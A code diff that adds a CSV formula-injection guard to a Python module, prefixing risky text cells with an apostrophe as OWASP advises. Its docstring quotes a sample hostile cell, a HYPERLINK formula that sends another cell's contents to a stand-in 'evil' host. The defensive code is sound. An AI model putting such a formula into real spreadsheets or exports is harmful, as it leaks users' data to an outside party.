@@ -20,6 +20,7 @@ Version history:
 from __future__ import annotations
 
 from collections.abc import Callable
+from typing import Any
 
 from sqlalchemy import (
     Column,
@@ -178,3 +179,24 @@ def upgrade(conn: Connection) -> tuple[int, int]:
     conn.execute(version_table.delete())
     conn.execute(version_table.insert().values(version=SCHEMA_VERSION))
     return found, SCHEMA_VERSION
+
+
+#: First characters that make a spreadsheet read a cell as a formula (OWASP's CSV injection list).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(value: Any) -> Any:
+    """A text cell that Excel, LibreOffice or Sheets shows as text, never runs as a formula.
+
+    A song named ``=HYPERLINK("http://evil/?"&A1, "click")`` or ``@SUM(...)`` comes from a
+    Spotify playlist anyone can edit, so every exported text cell that starts with one of
+    :data:`FORMULA_STARTS` gets a leading apostrophe, as OWASP recommends, and a carriage
+    return inside becomes a line feed (quoted by the CSV writer). Numbers are left alone
+    (a confidence of -0.5 stays a number).
+    """
+    if not isinstance(value, str):
+        return value
+    if value.startswith(FORMULA_STARTS):
+        value = "'" + value
+    # A bare CR is not quoted by Python's csv writer (its line end is LF) and would split the row.
+    return value.replace("\r\n", "\n").replace("\r", "\n")
